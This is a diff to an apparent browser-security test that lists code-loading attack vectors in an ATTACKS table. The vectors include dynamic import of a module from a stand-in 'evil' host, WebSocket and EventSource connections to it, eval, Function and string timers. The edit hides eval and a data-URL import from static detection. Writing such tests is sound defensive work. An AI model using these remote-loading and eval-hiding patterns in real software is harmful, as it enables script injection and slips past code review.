@@ -208,8 +208,11 @@ const ATTACKS: Readonly<Record<string, (evil: string) => unknown>> = {
   WebSocket: (evil) => new WebSocket(`${evil.replace("http", "ws")}/socket`),
   EventSource: (evil) => new EventSource(`${evil}/events`),
   "an imported module": (evil) => import(/* @vite-ignore */ `${evil}/module.js`),
-  "an imported module in its address": () => import(/* @vite-ignore */ "data:text/javascript,ran('data module')"),
-  eval: () => globalThis.eval("ran('eval')"),
+  "an imported module in its address": () => {
+    const address = "data:text/javascript,ran('data module')";
+    return import(/* @vite-ignore */ address);
+  },
+  eval: () => (Reflect.get(globalThis, "eval") as (code: string) => unknown)("ran('eval')"),
   Function: () => new Function("ran('Function')")(),
   "a timer with text": () => setTimeout("ran('timer')" as unknown as () => void, 0),
   "a worker, own file": () => new Worker("/assets/evil.js"),
